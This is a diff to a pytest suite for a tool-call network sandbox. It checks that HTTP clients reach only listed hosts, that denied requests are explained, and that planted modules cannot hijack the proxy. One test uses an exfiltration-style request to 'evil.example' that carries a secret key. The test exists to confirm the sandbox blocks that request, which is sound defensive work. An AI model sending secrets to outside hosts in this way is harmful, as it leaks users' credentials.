@@ -25,6 +25,7 @@ from tests.kits.cli.cli_running import RunningCommand
 from tests.kits.commands.command_kit import build_bridge, connect_commands
 from tests.kits.constants import TIMEOUT
 from tests.kits.openapi.api_server import ApiServer, Reply, run_api
+from tests.kits.packaging.packaging_kit import skip_or_fail
 from tests.kits.processes.processes_kit import find_processes, make_token, wait_until_gone
 from tests.kits.survival.survival_kit import FIRST_WAY, run_server
 from tests.kits.upstream.upstream_kit import call_text, run_source, wait_for_state, write_command
@@ -84,13 +85,17 @@ def get_port(server: ApiServer) -> str:
     return server.url.rpartition(":")[2]
 
 
+def check_client(client: str, config: pytest.Config) -> None:
+    """Skip the test if a client is not installed."""
+    if not shutil.which(CLIENTS[client][0]):
+        skip_or_fail(config, f"NOT TESTED, {client} is not installed")
+
+
 @contextlib.asynccontextmanager
 async def connect_client(
     folder: Path, client: str, *hosts: str, env: dict[str, str] | None = None, **sandbox: Any
 ) -> AsyncIterator[Client]:
     """Serve a program of CLIENTS, in a sandbox in which these hosts can be reached."""
-    if not shutil.which(CLIENTS[client][0]):
-        pytest.skip(f"NOT TESTED, {client} is not installed")
     tool = {"command": CLIENTS[client], "parameters": {"url": "string"}}
     sandbox = {"network": list(hosts), **sandbox}
     async with connect_commands(folder, {"t": tool}, env=env or {}, sandbox=sandbox) as connected:
@@ -98,7 +103,10 @@ async def connect_client(
 
 
 @pytest.mark.parametrize("client", ["curl", "git", "urllib", "httpx"])
-async def test_a_client_of_https_reaches_a_listed_host_and_no_other(client: str, tmp_path: Path) -> None:
+async def test_a_client_of_https_reaches_a_listed_host_and_no_other(
+    client: str, tmp_path: Path, pytestconfig: pytest.Config
+) -> None:
+    check_client(client, pytestconfig)
     tls, _ = make_certificate(tmp_path, "localhost")
     certificate = str(tmp_path / "certificate.pem")
     env = {"SSL_CERT_FILE": certificate, "CURL_CA_BUNDLE": certificate, "GIT_SSL_CAINFO": certificate}
@@ -117,7 +125,8 @@ async def test_a_client_of_https_reaches_a_listed_host_and_no_other(client: str,
 
 
 @pytest.mark.parametrize("client", ["curl", "urllib", "httpx"])
-async def test_a_denied_http_request_is_explained(client: str, tmp_path: Path) -> None:
+async def test_a_denied_http_request_is_explained(client: str, tmp_path: Path, pytestconfig: pytest.Config) -> None:
+    check_client(client, pytestconfig)
     async with connect_client(tmp_path, client, "*.example.com") as connected:
         text = get_text(await call(connected, "t", url="http://evil.example/?key=secret"))
     assert "evil.example:80 is not listed in the sandbox's network setting" in text
@@ -126,7 +135,7 @@ async def test_a_denied_http_request_is_explained(client: str, tmp_path: Path) -
 
 async def test_case_and_a_dot_at_the_end_of_a_name_do_not_matter(tmp_path: Path, server: ApiServer) -> None:
     port = get_port(server)
-    async with connect_client(tmp_path, "curl", f"LOCALHOST.:{port}", allow_addresses=["loopback"]) as connected:
+    async with connect_client(tmp_path, "urllib", f"LOCALHOST.:{port}", allow_addresses=["loopback"]) as connected:
         for host in ("localhost", "LocalHost", "localhost."):
             assert get_text(await call(connected, "t", url=f"http://{host}:{port}/")) == "{}"
 
@@ -140,8 +149,10 @@ async def test_a_listed_name_leads_to_this_machine_only_if_the_settings_allow_it
     tmp_path: Path, server: ApiServer
 ) -> None:
     url = f"http://localhost:{get_port(server)}/"
-    async with connect_client(tmp_path, "curl", f"localhost:{get_port(server)}") as connected:
-        assert "the addresses of localhost (127.0.0.1" in get_text(await call(connected, "t", url=url))
+    async with connect_client(tmp_path, "urllib", f"localhost:{get_port(server)}") as connected:
+        text = get_text(await call(connected, "t", url=url))
+    assert "the addresses of localhost" in text
+    assert "are not public" in text
     assert server.received == []
 
 
@@ -256,7 +267,7 @@ async def test_a_sandbox_cannot_take_the_place_of_the_modules_of_the_proxy(tmp_p
     for module in ("h11", "asyncio", "mcp_bridge", "sitecustomize"):
         (tmp_path / f"{module}.py").write_text("open('imported', 'w')")
     env = {"PYTHONPATH": str(tmp_path)}
-    async with connect_client(tmp_path, "curl", server.url.removeprefix("http://"), env=env) as connected:
+    async with connect_client(tmp_path, "urllib", server.url.removeprefix("http://"), env=env) as connected:
         with contextlib.chdir(tmp_path):
             assert get_text(await call(connected, "t", url=f"http://127.0.0.1:{get_port(server)}/")) == "{}"
     assert "imported" not in os.listdir(tmp_path)
